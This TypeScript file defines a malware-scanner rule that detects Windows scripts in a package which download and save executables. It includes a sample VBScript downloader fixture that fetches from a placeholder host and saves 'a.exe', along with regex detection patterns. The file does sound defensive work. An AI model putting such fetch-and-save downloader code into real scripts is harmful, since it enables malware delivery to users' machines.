import { findStartedPayloads } from '../../execution/reach.js';
import type { Evidence } from '../../facts/evidence.js';
import type { Facts } from '../facts.js';
import type { Rule } from '../rule.js';

const DOWNLOADS =
  'Set h = CreateObject("MSXML2.XMLHTTP")\nh.Open "GET", "http://files.invalid/a", False\nSet s = CreateObject("ADODB.Stream")\ns.SaveToFile "a.exe"';

export const scriptDownload: Rule = {
  id: 'script-download',
  title: 'A VBScript or JScript of the package downloads a file or installs one from elsewhere',
  severity: 'medium',
  explanation:
    'A script that the package runs fetches something with an HTTP object of Windows and saves it, or lets Windows Installer install a package from a URL. Downloaders of banking trojans are written so. Installers carry their files, and downloaders of makers are programs.',
  attack: ['T1059.005', 'T1059.007', 'T1105'],
  references: ['MITRE ATT&CK: T1105 Ingress Tool Transfer'],
  match: matchScripts,
  examples: [
    {
      what: 'an HTTP object and a stream that is saved',
      runs: ['wscript a.vbs'],
      holds: [{ name: 'a.vbs', type: 'vbscript', script: { type: 'vbscript', text: DOWNLOADS } }],
    },
  ],
  counterExamples: [
    {
      what: 'the same script, which nothing runs',
      holds: [{ name: 'a.vbs', type: 'vbscript', script: { type: 'vbscript', text: DOWNLOADS } }],
    },
    {
      what: 'a script that only asks a server',
      runs: ['wscript a.vbs'],
      holds: [
        {
          name: 'a.vbs',
          type: 'vbscript',
          script: { type: 'vbscript', text: 'CreateObject("MSXML2.XMLHTTP").Send' },
        },
      ],
    },
  ],
};

const ASKS = /\b(?:msxml2?|microsoft)\.(?:server)?xmlhttp|\bwinhttp\.winhttprequest\b/i;
const SAVES = /\badodb\.stream\b|\.savetofile\b|\.responsebody\b/i;
const INSTALLS = /\.installproduct\b[^\n]{0,256}\bhttps?:|\burldownloadtofile\b/i;
const TEXT_LENGTH = 65_536;

function* matchScripts(facts: Facts): Generator<Evidence> {
  const started = findStartedPayloads(facts.execution.commands, facts);
  for (const { facts: payloadFacts, id, path } of facts.payloads) {
    const { script } = payloadFacts;
    if (script === undefined || !started.has(id) || !LANGUAGES.has(script.type)) continue;
    const text = (script.text ?? '').slice(0, TEXT_LENGTH);
    const found = INSTALLS.exec(text) ?? (SAVES.test(text) ? ASKS.exec(text) : null);
    if (found === null) continue;
    const line = text.slice(0, found.index).split('\n').length;
    yield { payload: id, location: `${path} line ${line}`, text: `uses ${found[0]}` };
  }
}

const LANGUAGES: ReadonlySet<string> = new Set(['vbscript', 'jscript', 'wsf', 'hta']);
